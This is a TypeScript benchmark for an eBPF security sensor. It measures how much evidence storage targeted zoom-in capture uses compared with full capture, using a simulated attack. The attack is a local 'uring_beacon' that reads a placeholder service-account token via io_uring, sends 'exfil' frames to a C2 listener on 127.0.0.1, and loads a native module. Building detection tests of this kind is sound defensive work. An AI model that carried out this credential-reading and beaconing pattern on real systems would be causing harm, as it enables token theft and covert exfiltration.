/**
 * Evidence economy: what the cockpit stores for a workload with one attack, targeted zoom-in vs a
 * full capture of the same period.
 *
 *   npx tsx bench/evidence-economy.bench.ts [--seconds 120] [--attack-at 20] [--frames 30] [--traffic-interval-ms 200] [--parallel]
 *
 * Needs root (or CAP_BPF + CAP_PERFMON + CAP_NET_ADMIN), `make -C sensor` (test programs) and gcc.
 * Real parts only: the sensor CLI (live eBPF, mTLS), the collector, embedded chDB, the zoom service
 * and the tRPC API. The same workload runs twice, each time in a fresh process with its own sensor
 * and its own chDB data directory (chDB: one engine per process):
 *
 *   workload  in a test cgroup of its own (the sensor runs with --scope-cgroup on it, so the host's
 *             other processes are in neither phase): the reference scenario's victim, a JavaScript
 *             HTTP service (e2e/scenario/victim/server.mjs, release 1.0) under steady traffic
 *             (traffic.mjs, a request every --traffic-interval-ms), a cron-like shell starting `date` every 5 s,
 *             and at --attack-at seconds the attack, sensor/build/uring_beacon: through io_uring it
 *             opens and reads a service-account token, connects to a C2 listener and sends a
 *             length-prefixed binary frame every second (--frames), and dlopens a native module
 *             (a .node shared object built here with gcc) after its second frame.
 *   targeted  the product as it is: always-on lifecycle + first-seen facts (and the detector's
 *             baselines) for the whole period, plus one zoom on the attacking process, ordered the
 *             moment it starts (zooms.order by a responder, with the probe sets and TTL the default
 *             policy gives a high-severity indicator: IO_URING, NETWORK, FILES, CODE for 300 s).
 *   full      the same, plus every probe set (IO_URING, NETWORK, FILES, CODE, CHILDREN) zoomed on
 *             the whole workload cgroup (every process in it, and those that join) for the whole
 *             period, budget and rate raised so that nothing is cut (the sensor's drops are
 *             reported: any drop makes the full capture's figure a lower bound).
 *
 * Storage is measured twice in each phase: at --mid seconds (default: 10 s after the attack's last
 * frame, at least half the period) and after the period (the workload stopped, the stream drained,
 * the collector stopped). Each time every table is merged (OPTIMIZE … FINAL) and the active parts
 * of every table in the database are summed from system.parts: bytes on disk, compressed column
 * data, rows. One hour is extrapolated from the slope between the two (what the steady workload
 * adds per second, the attack being over by then), not linearly from the total: every table keeps
 * at least one part whose files cost a few KiB however few rows it holds, a cost that does not
 * grow with time (the intercept, reported as fixedBytes). Facts are folded per fold window
 * (server/collector/factFold.ts): a window starting inside the hour stores the workload's facts
 * again, which a short slope may not see, so a bound adds the facts table's bytes once per further
 * window of the hour (hourBound). The attack's steps
 * are checked in the targeted phase through the API (investigations.files / network / code): the
 * token read via io_uring with its bytes, the connects and sends to the C2 address, the module's
 * code fingerprint.
 */
import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { selectRows } from '../db/query';
import { openTestDb } from '../db/testing';
import { nowNs } from '../db/time';
import { probeKernel } from '../sensor/src/kernel/source';
import { silentLogger } from '../sensor/src/log';
import { Launcher } from '../sensor/src/testing/launcher';
import { freePort, startSensorProcess, waitFor } from '../sensor/src/testing/process';
import { TestCgroups } from '../sensor/src/testing/workloads';
import { ensureCerts } from '../sensor/src/tls/certs';
import { getCollectorState, startCollector, stopCollector } from '../server/collector/collector';
import { DEFAULT_FACT_FOLD } from '../server/collector/factFold';
import { createCaller } from '../server/trpc/root';
import { testContext } from '../server/trpc/testing';
import { liveZoomControls } from '../server/zoom/control';
import { getZoomDirectory } from '../server/zoom/directory';
import { DEFAULT_ZOOM_POLICY, PROBE_NAMES, ruleFor, type ZoomPolicy } from '../server/zoom/policy';
import { ZoomService } from '../server/zoom/service';
import { storedExecId } from '../server/zoom/testing';

function arg(name: string, def: string): string {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1]! : def;
}
const SECONDS = Number(arg('seconds', '120'));
const ATTACK_AT = Number(arg('attack-at', '20'));
const FRAMES = Number(arg('frames', '30'));
/** the victim's steady traffic: one request every this many ms (the full capture grows with it; always-on data does not) */
const TRAFFIC_MS = Number(arg('traffic-interval-ms', '200'));
const PHASE = arg('phase', '');
/** Both phases at once (each still in its own process, sensor, cgroup and chDB): an hour-long run takes one hour, not two. */
const PARALLEL = process.argv.includes('--parallel');
/** Zoom TTLs and the workload's processes must outlive the period (an hour-long run included). */
const MAX_TTL_S = Math.max(3600, SECONDS + 120);
const PROCESS_TIMEOUT_MS = (MAX_TTL_S + 600) * 1000;
/** When storage is measured the first time (s): the slope to the end excludes the attack. */
const MID = Number(arg('mid', String(Math.max(ATTACK_AT + FRAMES + 10, Math.ceil(SECONDS / 2)))));
if (!(MID > ATTACK_AT + FRAMES && MID < SECONDS)) throw new Error(`--mid ${MID} must lie after the attack (${ATTACK_AT + FRAMES} s) and before the end (${SECONDS} s)`);
const ROOT = path.resolve(import.meta.dirname, '..');
const BEACON = path.join(ROOT, 'sensor/build/uring_beacon');
const VICTIM = path.join(ROOT, 'e2e/scenario/victim');
const SENSOR = 'economy';
const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.economy-bench-token.signature\n';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

interface Sizes {
  bytesOnDisk: number;
  compressedBytes: number;
  uncompressedBytes: number;
  rows: number;
  tables: Record<string, { rows: number; bytesOnDisk: number }>;
}

interface PhaseResult extends Sizes {
  phase: 'targeted' | 'full';
  seconds: number;
  /** Storage at MID seconds, while the steady workload still runs. */
  mid: Sizes & { atSeconds: number };
  zooms: Array<{ id: string; target: string; probes: string[]; status: string; eventsEmitted: string; eventsDropped: string }>;
  attack: { tokenReadViaIoUring: boolean; tokenBytes: number; c2Sends: number; c2Connects: boolean; moduleFingerprint: boolean; payloadFormat: string | null };
  beacon: { frames: number; readBytes: number; dlopen: number };
}

/** The cockpit's policy for the full capture: room for every event of the period (the sensor's flags match). */
// No automatic zooms here: the cgroup zoom already covers every process, and a second zoom on the
// attacker would take its evidence under another zoom id.
const FULL_POLICY: ZoomPolicy = { ...DEFAULT_ZOOM_POLICY, auto: false, maxTtlSeconds: MAX_TTL_S, maxEvents: 10_000_000, maxEventsPerSecond: 200_000 };

async function runPhase(phase: 'targeted' | 'full'): Promise<PhaseResult> {
  const probe = probeKernel();
  if (!probe.ok) throw new Error(`eBPF unavailable: ${probe.reason}`);
  const dir = mkdtempSync(path.join(os.tmpdir(), `soc-economy-${phase}-`));
  const cgroups = new TestCgroups('soc-economy');
  cgroups.create(['app']);
  const launcher = new Launcher({ orphan: true });
  const listener = net.createServer((c) => c.resume().on('error', () => undefined));
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()));
  const c2Port = (listener.address() as net.AddressInfo).port;
  const certs = await ensureCerts({ outDir: path.join(dir, 'pki') });
  Object.assign(process.env, certs.cockpitEnv);
  const testDb = await openTestDb();
  const port = await freePort();
  const sensor = await startSensorProcess({
    kind: 'cli',
    runner: 'node',
    args: ['--listen', `localhost:${port}`, '--name', SENSOR, '--scope-cgroup', cgroups.path('app'), '--zoom-max-ttl-s', String(MAX_TTL_S), '--zoom-max-events', '10000000', '--zoom-max-rate', '200000'],
    env: certs.sensorEnv,
  });
  const policy = phase === 'full' ? FULL_POLICY : DEFAULT_ZOOM_POLICY;
  const zooms = new ZoomService({ controls: liveZoomControls, policy: () => policy, directory: getZoomDirectory(), now: nowNs, log: silentLogger });
  const api = (role: 'viewer' | 'responder') => createCaller(testContext({ db: testDb.db, as: role, zooms, zoomPolicy: policy }));
  // The product's collector with its detector (default learning windows) and automatic zooms.
  startCollector({ sensors: `${SENSOR}=localhost:${port}`, db: testDb.db, logger: silentLogger, zooms });
  const node = os.hostname();
  const pids: number[] = [];
  const inCgroup = (argv: string[]) => ['sh', '-c', `echo $$ > ${q(cgroups.procs('app'))} && exec ${argv.map(q).join(' ')}`];
  try {
    await waitFor('the collector connected', () => getCollectorState().sensors[0]?.connected === true && liveZoomControls.sensorOfNode(node) === SENSOR, { timeoutMs: 30_000 });
    // Files the workload uses: the victim's inventory, the token, the native module.
    const inventory = path.join(dir, 'inventory.json');
    writeFileSync(inventory, JSON.stringify([{ id: 'sku-1', name: 'bolt', stock: 10 }, { id: 'sku-2', name: 'nut', stock: 4 }]));
    const tokenPath = path.join(dir, 'serviceaccount', 'token');
    mkdirSync(path.dirname(tokenPath), { recursive: true });
    writeFileSync(tokenPath, TOKEN);
    const modulePath = path.join(dir, 'fasthash.node');
    writeFileSync(path.join(dir, 'addon.c'), 'typedef void *napi_env, *napi_value;\nextern int napi_create_uint32(napi_env, unsigned, napi_value *);\nnapi_value addon_init(napi_env env, napi_value e) { napi_value v; napi_create_uint32(env, 42, &v); return v; }\n');
    execFileSync('gcc', ['-shared', '-fPIC', '-O2', '-Wl,--unresolved-symbols=ignore-all', '-Wl,-z,lazy', '-o', modulePath, path.join(dir, 'addon.c')]);

    const victimPort = await freePort();
    const started = Date.now();
    let fullZoomId = '';
    if (phase === 'full') {
      const { zoom } = await api('responder').zooms.order({
        cgroup: { node, path: cgroups.path('app') },
        probes: [...PROBE_NAMES],
        ttlSeconds: SECONDS + 60,
        maxEvents: FULL_POLICY.maxEvents,
        reason: 'evidence-economy benchmark: full capture of the workload',
      });
      if (zoom.status !== 'active') throw new Error(`full-capture zoom: ${zoom.status} ${zoom.reason}`);
      fullZoomId = zoom.id;
    }
    const env = `VICTIM_PORT=${victimPort} VICTIM_DATA=${q(inventory)} VICTIM_RELEASE=1.0 TRAFFIC_INTERVAL_MS=${TRAFFIC_MS}`;
    const background = [
      launcher.run(['sh', '-c', `echo $$ > ${q(cgroups.procs('app'))} && ${env} exec ${q(process.execPath)} ${q(path.join(VICTIM, 'server.mjs'))}`], { timeoutMs: PROCESS_TIMEOUT_MS }),
      launcher.run(['sh', '-c', `echo $$ > ${q(cgroups.procs('app'))} && sleep 1 && ${env} exec ${q(process.execPath)} ${q(path.join(VICTIM, 'traffic.mjs'))}`], { timeoutMs: PROCESS_TIMEOUT_MS }),
      launcher.run(inCgroup(['sh', '-c', 'while :; do date > /dev/null; sleep 5; done']), { timeoutMs: PROCESS_TIMEOUT_MS }),
    ];
    for (const b of background) {
      b.done.catch(() => undefined);
      pids.push(await b.pid);
    }

    await sleep(Math.max(0, started + ATTACK_AT * 1000 - Date.now()));
    const beacon = launcher.run(
      inCgroup([BEACON, '--wait', '--open', tokenPath, '--connect', `127.0.0.1:${c2Port}`, '--frames', String(FRAMES), '--interval-ms', '1000', '--payload', 'exfil', '--dlopen', modulePath, '--dlopen-after', '2']),
      { hold: true, timeoutMs: PROCESS_TIMEOUT_MS },
    );
    const beaconPid = await beacon.pid;
    pids.push(beaconPid);
    const execId = await storedExecId(testDb.db, SENSOR, beaconPid, BEACON);
    let investigationId = '';
    if (phase === 'targeted') {
      const rule = ruleFor(DEFAULT_ZOOM_POLICY, 'syscall', 'high')!;
      const ordered = await api('responder').zooms.order({ execId, probes: rule.probes, ttlSeconds: rule.ttlSeconds, maxEvents: rule.maxEvents, reason: 'io_uring_setup first seen in the workload' });
      investigationId = ordered.investigationId;
    }
    await beacon.release();
    const beaconDone = await beacon.done;
    if (!beaconDone.stdout.trim().startsWith('{')) throw new Error(`beacon exited with ${beaconDone.code} without its report: ${beaconDone.stderr.trim() || '(no output)'}`);
    const beaconOut = JSON.parse(beaconDone.stdout) as { frames: number; read_bytes: number; dlopen?: number; errors: string[] };
    if (beaconOut.errors.length > 0) throw new Error(`beacon: ${beaconOut.errors.join('; ')}`);

    await sleep(Math.max(0, started + MID * 1000 - Date.now()));
    const midSizes = { ...(await mergedSizes(testDb.db)), atSeconds: (Date.now() - started) / 1000 };
    await sleep(Math.max(0, started + SECONDS * 1000 - Date.now()));
    for (const pid of pids) kill(-pid);
    for (const pid of pids) kill(pid);
    if (fullZoomId) await api('responder').zooms.cancel({ zoomId: fullZoomId, reason: 'the period is over' });
    await drained(testDb.db);
    const zoomList = (await api('viewer').zooms.list()).zooms.map((z) => ({ id: z.id, target: `${z.target.kind}:${z.target.value}`, probes: z.probes, status: z.status, eventsEmitted: z.eventsEmitted, eventsDropped: z.eventsDropped }));
    if (phase === 'full') investigationId = (await api('viewer').zooms.list()).zooms.find((z) => z.id === fullZoomId)!.investigationId;
    const attack = await attackSteps(api('viewer'), investigationId, tokenPath, c2Port, modulePath);
    await stopCollector();

    return {
      phase,
      seconds: SECONDS,
      ...(await mergedSizes(testDb.db)),
      mid: midSizes,
      zooms: zoomList,
      attack,
      beacon: { frames: beaconOut.frames, readBytes: beaconOut.read_bytes, dlopen: beaconOut.dlopen ?? 0 },
    };
  } finally {
    for (const pid of pids) kill(-pid);
    for (const pid of pids) kill(pid);
    await stopCollector();
    sensor.child.kill('SIGTERM');
    await sensor.exited;
    launcher.close();
    listener.close();
    cgroups.remove();
    await testDb.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Every table merged (OPTIMIZE … FINAL), so phases compare at their on-disk size, not their insert batching. */
async function mergedSizes(db: Parameters<typeof selectRows>[0]): Promise<Sizes> {
  const tables = await selectRows<{ name: string }>(db, { sql: `SELECT name FROM system.tables WHERE database = currentDatabase() AND engine LIKE '%MergeTree'`, params: {}, tag: 'bench' });
  for (const t of tables) await db.client.command({ query: `OPTIMIZE TABLE \`${t.name.replace(/`/g, '')}\` FINAL` });
  const parts = await selectRows<{ table: string; rows: string; bytes: string; compressed: string; raw: string }>(db, {
    sql: `SELECT table, toString(sum(rows)) AS rows, toString(sum(bytes_on_disk)) AS bytes, toString(sum(data_compressed_bytes)) AS compressed,
                 toString(sum(data_uncompressed_bytes)) AS raw
          FROM system.parts WHERE active AND database = currentDatabase() GROUP BY table ORDER BY table`,
    params: {},
    tag: 'bench',
  });
  const sum = (f: (p: (typeof parts)[number]) => string) => parts.reduce((n, p) => n + Number(f(p)), 0);
  return {
    bytesOnDisk: sum((p) => p.bytes),
    compressedBytes: sum((p) => p.compressed),
    uncompressedBytes: sum((p) => p.raw),
    rows: sum((p) => p.rows),
    tables: Object.fromEntries(parts.map((p) => [p.table, { rows: Number(p.rows), bytesOnDisk: Number(p.bytes) }])),
  };
}

/**
 * One hour of a phase from its two measurements: the end plus the slope (mid → end) for the rest
 * of the hour; fixed = the intercept at time 0 (part files, the one-time attack and zoom).
 */
function hourOf(p: PhaseResult, measure: 'bytesOnDisk' | 'compressedBytes' | 'rows') {
  const perSecond = Math.max(0, (p[measure] - p.mid[measure]) / (p.seconds - p.mid.atSeconds));
  return { perSecond: Math.round(perSecond), fixed: Math.round(p[measure] - perSecond * p.seconds), hour: Math.round(p[measure] + perSecond * (3600 - p.seconds)) };
}

type Api = ReturnType<typeof createCaller>;

/** The attack's steps as the investigation API shows them. */
async function attackSteps(api: Api, investigationId: string, tokenPath: string, c2Port: number, modulePath: string): Promise<PhaseResult['attack']> {
  const [files, network, code] = await Promise.all([api.investigations.files({ id: investigationId }), api.investigations.network({ id: investigationId }), api.investigations.code({ id: investigationId })]);
  const read = files.files.find((f) => f.path === tokenPath && f.op === 'read' && f.viaIoUring);
  const c2 = network.destinations.find((d) => d.address === '127.0.0.1' && d.port === c2Port);
  return {
    tokenReadViaIoUring: !!read,
    tokenBytes: read?.bytes ?? 0,
    c2Connects: !!c2,
    c2Sends: c2?.contacts ?? 0,
    moduleFingerprint: code.modules.some((m) => m.path === modulePath && !!m.sha256),
    payloadFormat: c2?.payloadFormat ?? null,
  };
}

/** Waits until storage stops growing (the stream drained): the row count unchanged for 3 s. */
async function drained(db: Parameters<typeof selectRows>[0]): Promise<void> {
  let last = -1;
  let stableSince = Date.now();
  for (;;) {
    const [r] = await selectRows<{ n: string }>(db, { sql: `SELECT toString(sum(total_rows)) AS n FROM system.tables WHERE database = currentDatabase()`, params: {}, tag: 'bench' });
    const n = Number(r!.n);
    if (n !== last) {
      last = n;
      stableSince = Date.now();
    } else if (Date.now() - stableSince >= 3000) return;
    await sleep(500);
  }
}

function q(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

function kill(pid: number): void {
  try {
    process.kill(pid, 'SIGKILL');
  } catch {
    // ended already
  }
}

/** Each phase in a process of its own (chDB: one engine per process), one after the other unless --parallel. */
function runChild(phase: 'targeted' | 'full'): Promise<PhaseResult> {
  const tsx = path.join(ROOT, 'node_modules/.bin/tsx');
  const child = spawn(tsx, [import.meta.filename, '--phase', phase, '--seconds', String(SECONDS), '--mid', String(MID), '--attack-at', String(ATTACK_AT), '--frames', String(FRAMES), '--traffic-interval-ms', String(TRAFFIC_MS)], { stdio: ['ignore', 'pipe', 'inherit'] });
  let out = '';
  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
  return new Promise((resolve, reject) =>
    child.on('exit', (code) => {
      const line = out.trim().split('\n').at(-1) ?? '';
      if (code !== 0 || !line.startsWith('{')) reject(new Error(`phase ${phase} exited with ${code}:\n${out}`));
      else resolve(JSON.parse(line) as PhaseResult);
    }),
  );
}

async function main(): Promise<void> {
  if (PHASE === 'targeted' || PHASE === 'full') {
    console.log(JSON.stringify(await runPhase(PHASE)));
    return;
  }
  const [targeted, full] = PARALLEL ? await Promise.all([runChild('targeted'), runChild('full')]) : [await runChild('targeted'), await runChild('full')];
  const steps = targeted.attack;
  const windowsPerHour = Math.ceil(3_600_000 / DEFAULT_FACT_FOLD.windowMs);
  const hours = (p: PhaseResult) => {
    const disk = hourOf(p, 'bytesOnDisk');
    // Each fold window that starts after the measured period may store the workload's facts again
    // (none for an hour-long run: its windows are all measured).
    const windowsLeft = Math.max(0, windowsPerHour - Math.ceil((p.seconds * 1000) / DEFAULT_FACT_FOLD.windowMs));
    const bound = disk.hour + (p.tables.facts?.bytesOnDisk ?? 0) * windowsLeft;
    return { bytesOnDisk: disk, compressedBytes: hourOf(p, 'compressedBytes'), rows: hourOf(p, 'rows'), hourBoundBytesOnDisk: bound };
  };
  const th = hours(targeted);
  const fh = hours(full);
  const ratio = (a: number, b: number) => Math.round((a / b) * 10) / 10;
  console.log(
    JSON.stringify({
      bench: 'evidence-economy',
      seconds: SECONDS,
      trafficIntervalMs: TRAFFIC_MS,
      midSeconds: MID,
      extrapolation: `one hour = the end + the slope from ${MID} s to ${SECONDS} s × the rest of the hour; fixed = the intercept`,
      targeted: { bytesOnDisk: targeted.bytesOnDisk, compressedBytes: targeted.compressedBytes, rows: targeted.rows, mid: { ...targeted.mid, tables: undefined }, hour: th, zooms: targeted.zooms, tables: targeted.tables },
      full: { bytesOnDisk: full.bytesOnDisk, compressedBytes: full.compressedBytes, rows: full.rows, mid: { ...full.mid, tables: undefined }, hour: fh, zooms: full.zooms, tables: full.tables },
      ratio: {
        measured: { bytesOnDisk: ratio(full.bytesOnDisk, targeted.bytesOnDisk), compressedBytes: ratio(full.compressedBytes, targeted.compressedBytes), rows: ratio(full.rows, targeted.rows), uncompressed: ratio(full.uncompressedBytes, targeted.uncompressedBytes) },
        hour: { bytesOnDisk: ratio(fh.bytesOnDisk.hour, th.bytesOnDisk.hour), compressedBytes: ratio(fh.compressedBytes.hour, th.compressedBytes.hour), rows: ratio(fh.rows.hour, th.rows.hour), bytesOnDiskBound: ratio(fh.bytesOnDisk.hour, th.hourBoundBytesOnDisk) },
        perSecond: { bytesOnDisk: ratio(fh.bytesOnDisk.perSecond, Math.max(1, th.bytesOnDisk.perSecond)), rows: ratio(fh.rows.perSecond, Math.max(1, th.rows.perSecond)) },
      },
      attackStepsInTargeted: steps,
      attackStepsInFull: full.attack,
      everyAttackStepPresent: steps.tokenReadViaIoUring && steps.tokenBytes === TOKEN.length && steps.c2Connects && steps.c2Sends >= FRAMES && steps.moduleFingerprint,
      beacon: targeted.beacon,
      budget: '≥ 50× smaller with every attack step present',
    }),
  );
}

main().then(
  () => process.exit(0),
  (e: unknown) => {
    console.error(e);
    process.exit(1);
  },
);
